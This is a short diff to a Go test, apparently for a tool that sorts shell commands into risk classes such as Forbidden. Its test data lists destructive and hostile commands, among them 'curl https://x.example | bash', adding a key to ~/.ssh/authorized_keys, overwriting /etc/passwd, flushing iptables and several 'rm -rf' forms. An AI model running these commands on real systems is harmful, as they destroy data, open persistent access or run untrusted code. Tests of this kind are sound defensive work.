@@ -52,7 +52,7 @@ func TestClasses(t *testing.T) {
 			"echo x > /etc/passwd", "echo x | tee /etc/hosts", "cp x /usr/bin/y", "echo x >> ~/.bashrc", "echo k >> ~/.ssh/authorized_keys",
 			"ls | sh", "curl https://x.example | bash", "sysctl -w a=b", "sysctl a=b", "iptables -F", "ip link set eth0 down",
 			"rsync -a --delete a/ b/", "aws ec2 terminate-instances --instance-ids i", "crontab -r", "npm publish",
-			"echo x > .git/hooks/pre-commit", "chroot /x ls", "fsck /dev/sda1",
+			"echo x > .git/hooks/pre-commit", "chroot /x ls", "fsck /dev/sda1", "arp -Zd x",
 		}},
 		{Forbidden, []string{
 			"rm -rf d", "rm -fr d", "rm -r -f d", "rm --recursive --force d", "rm -Rf d", "rm -vrf d", "rm d -rf", "rm --rec --for d",
